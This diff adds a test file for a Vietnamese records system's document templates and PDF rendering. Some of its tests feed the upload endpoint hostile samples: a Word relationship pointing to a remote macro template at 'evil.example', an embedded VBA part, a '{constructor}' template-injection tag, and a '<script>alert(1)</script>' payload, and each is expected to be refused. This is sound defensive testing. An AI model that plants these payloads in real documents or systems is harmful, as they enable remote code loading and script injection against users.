@@ -1,0 +1,211 @@
+import { randomUUID } from 'node:crypto';
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
+import { expect, test } from 'vitest';
+import { asOwner } from '#platform/db/database.ts';
+import { renderPdf } from '#platform/pdf/pdf.ts';
+import { testDatabase } from '#platform/testing/database.ts';
+import { testApp } from '#platform/testing/http.ts';
+import { placesOfPdf, textOfPdf } from '#platform/testing/pdf.ts';
+import { PAPERS, type PaperKind, type TemplateFault } from '../contract.ts';
+import { recordsRoutes } from '../index.ts';
+import { aRecordsWorld, clerkOf, multipart, rangesOf } from '../testing.ts';
+import { exampleOf, FORMS } from './forms.ts';
+import { FRAME_TAGS, placeAndDate } from './layouts.ts';
+import { readBody } from './sources.ts';
+import { builtIn, docxPaper, pdfOf, tagsOfPaper, tryTemplate, type Written } from './write.ts';
+
+const AT = new Date('2026-11-22T05:00:00Z');
+const db = await testDatabase();
+const { app, as } = await testApp(db, [recordsRoutes], { now: () => AT });
+const world = await asOwner(db, 'test', aRecordsWorld);
+const clerk = clerkOf(as({ ranges: rangesOf([world.commune, world.cell]) }), world.commune.id);
+
+/** The paragraphs of a Word file. */
+function wordsOf(docx: Uint8Array): string[] {
+  const xml = strFromU8(unzipSync(docx)['word/document.xml'] ?? new Uint8Array());
+  return [...xml.matchAll(/<w:p[ >].*?<\/w:p>/gs)].map(([one]) =>
+    [...one.matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)].map(([, text = '']) => text).join(''),
+  );
+}
+const example = (code: (typeof PAPERS)[number], layout: 'party' | 'state' = 'party'): Written => {
+  const values = exampleOf(FORMS[code], tagsOfPaper(code));
+  const frame = Object.fromEntries(FRAME_TAGS.map((tag) => [tag, String(values[tag] ?? '')]));
+  return { code, unitId: '', layout, frame: { ...frame, recipients: [{ name: 'Lưu hồ sơ.' }] } as never, values };
+};
+
+test.each(PAPERS)(
+  '%s: its built-in Word template in both layouts takes example values and leaves no tag open',
+  (code) => {
+    for (const layout of ['party', 'state'] as const) {
+      const filled = wordsOf(tryTemplate(code, builtIn(code, layout)));
+      expect(filled.filter((text) => /[{}]/.test(text))).toEqual([]);
+      expect(filled.join('\n')).toContain(
+        layout === 'party' ? 'ĐẢNG CỘNG SẢN VIỆT NAM' : 'Độc lập - Tự do - Hạnh phúc',
+      );
+      expect(filled.join('\n').includes('CỘNG HOÀ')).toBe(layout === 'state');
+    }
+  },
+);
+
+test('the same words stand in the PDF and in the Word file, the PDF is PDF/A', async () => {
+  const paper = example('resolution');
+  const pdf = await renderPdf(pdfOf(paper, AT));
+  expect(pdf.toString('latin1')).toContain('pdfaid:part');
+  const words = (await textOfPdf(pdf)).replace(/\s+/g, ' ');
+  const inWord = wordsOf(docxPaper(paper))
+    .map((text) => text.trim())
+    .filter((text) => text.length > 8 && !text.startsWith('Số '));
+  for (const text of inWord) expect(words).toContain(text.replace(/\s+/g, ' '));
+});
+
+test.each([
+  ['2026-02-05', 'Nậm Kè, ngày 05 tháng 02 năm 2026'],
+  ['2018-10-20', 'Nậm Kè, ngày 20 tháng 10 năm 2018'],
+  ['2026-03-09', 'Nậm Kè, ngày 09 tháng 3 năm 2026'],
+])('the day %s is written “%s”', (on, said) => expect(placeAndDate('Nậm Kè', on)).toBe(said));
+
+test('paragraphs and annex tables are read out of plain text', () => {
+  expect(readBody('Kính gửi\n\n1. Kết quả\n# Số liệu\nĐảng viên | 1.204 | chính thức 1.150\nChi bộ | 38')).toEqual({
+    paragraphs: [{ text: 'Kính gửi' }, { text: '1. Kết quả' }],
+    annexes: [
+      {
+        no: '1',
+        annex: 'Số liệu',
+        lines: [
+          { label: 'Đảng viên', value: '1.204', note: 'chính thức 1.150' },
+          { label: 'Chi bộ', value: '38', note: '' },
+        ],
+      },
+    ],
+  });
+});
+
+const give = (content: Uint8Array, more: object = {}) =>
+  clerk.caller.inject({
+    method: 'POST',
+    url: '/api/v1/paper-templates',
+    ...multipart(
+      { id: randomUUID(), unitId: world.commune.id, paper: 'plan', name: 'Mẫu của xã', ...more },
+      { name: 'mau.docx', content },
+    ),
+  });
+/** The built-in template of a plan with its text changed. */
+function changed(change: (xml: string) => string, parts: Record<string, string> = {}): Uint8Array {
+  const files = unzipSync(builtIn('plan', 'party'));
+  const xml = strFromU8(files['word/document.xml'] ?? new Uint8Array());
+  return zipSync({
+    '[Content_Types].xml': files['[Content_Types].xml'] ?? new Uint8Array(),
+    ...files,
+    'word/document.xml': strToU8(change(xml)),
+    ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
+  });
+}
+type Refusal = { code: string; title: string; details: { faults: TemplateFault[]; count: number } };
+
+test.each([
+  ['a tag that is not closed', '{signer}', '{signer', 'unclosed', 'signer'],
+  ['a tag that was never opened', '{signer}', 'signer}', 'unopened', 'signer'],
+  ['a list that is not closed', '{/paragraphs}', '', 'unclosed-loop', 'paragraphs'],
+  ['a list that was never opened', '{#paragraphs}', '', 'unopened-loop', 'paragraphs'],
+  ['a tag that this paper does not know', '{signer}', '{secretary_mobile}', 'unknown', 'secretary_mobile'],
+  ['a tag that computes', '{signer}', '{constructor}', 'unknown', 'constructor'],
+])('a template with %s is refused with the tag and its place', async (_name, from, to, what, tag) => {
+  const answer = await give(changed((xml) => xml.replace(from, to)));
+  expect(answer.status, answer.text).toBe(400);
+  const { code, details } = answer.body as Refusal;
+  expect(code).toBe('template.broken');
+  const fault = details.faults.find((one) => one.what === what);
+  expect(fault, answer.text).toBeDefined();
+  expect(fault?.tag).toContain(tag);
+  if (to !== '')
+    expect(fault).toMatchObject({
+      paragraph: expect.any(Number) as number,
+      near: expect.stringContaining(tag) as string,
+    });
+  const kinds = await clerk.get<{ items: PaperKind[] }>(`/paper-kinds?unit=${world.commune.id}`);
+  expect(kinds.items.find((one) => one.code === 'plan')?.templates).toEqual([]);
+});
+
+test('what could do more than show text is no template', async () => {
+  const code = async (content: Uint8Array) => ((await give(content)).body as Refusal).code;
+  expect(await code(changed((xml) => xml, { 'word/vbaProject.bin': 'x' }))).toBe('template.unsafe');
+  const outside =
+    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>';
+  expect(await code(changed((xml) => xml, { 'word/_rels/settings.xml.rels': outside }))).toBe('template.unsafe');
+  expect(await code(strToU8('%PDF-1.7'))).toBe('template.not-word');
+  expect(await code(zipSync({ 'word/nothing.xml': strToU8('x') }))).toBe('template.not-word');
+});
+
+test('an office changes a template, tries it, uses it, and its units below write with it; a stranger does not', async () => {
+  const id = randomUUID();
+  const mine = changed((xml) => xml.replace('Nơi nhận:', 'Gửi đến:'));
+  expect((await give(mine, { id })).status).toBe(201);
+  const draft = await clerkOf(clerk.caller, world.cell.id).draft({
+    kind: 'plan',
+    summary: 'Kế hoạch tháng 12',
+    body: 'Việc một\nViệc hai',
+  });
+  const file = async (path: string, caller = clerk.caller) => {
+    const answer = await app.inject({
+      method: 'GET',
+      url: `/api/v1${path}`,
+      headers: { authorization: `Test ${caller.userId}` },
+    });
+    return { status: answer.statusCode, bytes: answer.rawPayload };
+  };
+  expect(wordsOf((await file(`/papers/plan/${draft}?as=docx`)).bytes)).toContain('Nơi nhận:');
+  expect(wordsOf((await file(`/paper-templates/${id}/example`)).bytes)).toContain('Gửi đến:');
+  expect((await clerk.caller.patch(`/paper-templates/${id}`, { version: 1, state: 'active' })).status).toBe(200);
+  const words = wordsOf((await file(`/papers/plan/${draft}?as=docx`)).bytes);
+  for (const said of [
+    'Gửi đến:',
+    'CHI BỘ BẢN PHIÊNG VAI',
+    'ĐẢNG BỘ XÃ NẬM KÈ',
+    'KẾ HOẠCH',
+    'Kế hoạch tháng 12',
+    'Việc một',
+    'DỰ THẢO',
+  ])
+    expect(words).toContain(said);
+  expect(words.some((text) => text.includes('-KH/CB'))).toBe(true);
+  const stranger = as({ ranges: rangesOf([world.other]) });
+  expect((await file(`/papers/plan/${draft}`, stranger)).status).toBe(404);
+  expect((await clerk.caller.patch(`/paper-templates/${id}`, { version: 2, state: 'retired' })).status).toBe(200);
+  expect((await file(`/paper-templates/${id}/file`, stranger)).status).toBe(404);
+  expect(wordsOf((await file(`/papers/plan/${draft}?as=docx`)).bytes)).toContain('Nơi nhận:');
+});
+
+test('a paper with its number, as PDF; a long Thai line breaks between words and stays on the page; HTML never gets that far', async () => {
+  const thai = 'ขอเชิญผู้แทนหมู่บ้านทุกแห่งเข้าร่วมประชุมคณะกรรมการพรรคระดับตำบลเมืองแญ้เพื่อรับฟังรายงานผลการดำเนินงานประจำปี'.repeat(3);
+  const id = await clerk.draft({
+    kind: 'notice',
+    summary: 'Thông báo cho đoàn bạn',
+    body: `Nội dung bằng tiếng Thái:\n${thai}`,
+  });
+  const { symbol } = (await clerk.number(id)).body;
+  const answer = await app.inject({
+    method: 'GET',
+    url: `/api/v1/papers/notice/${id}`,
+    headers: { authorization: `Test ${clerk.caller.userId}` },
+  });
+  expect(answer.statusCode).toBe(200);
+  const words = await textOfPdf(answer.rawPayload);
+  expect(words).toContain(symbol);
+  expect(words).toContain('ĐẢNG UỶ XÃ NẬM KÈ');
+  // A4 is 595 points wide, and the right margin 20 mm; the line goes on below instead of running over.
+  const inThai = (await placesOfPdf(answer.rawPayload)).filter(({ text }) => /[\u0e00-\u0e7f]/.test(text));
+  expect(new Set(inThai.map(({ y }) => y)).size).toBeGreaterThan(3);
+  expect(Math.max(...inThai.map(({ right }) => right))).toBeLessThan(595.3 - 56.6 + 1);
+  expect(Math.min(...inThai.map(({ left }) => left))).toBeGreaterThan(85 - 1);
+  const html = await clerk.caller.post('/drafts', {
+    id: randomUUID(),
+    unitId: world.commune.id,
+    kind: 'notice',
+    summary: 'x',
+    body: '<p>Dán từ trang</p><script>alert(1)</script>',
+  });
+  expect(html).toMatchObject({
+    status: 400,
+    body: { code: 'document.markup', details: { mark: '<p>', field: 'body' } },
+  });
+});
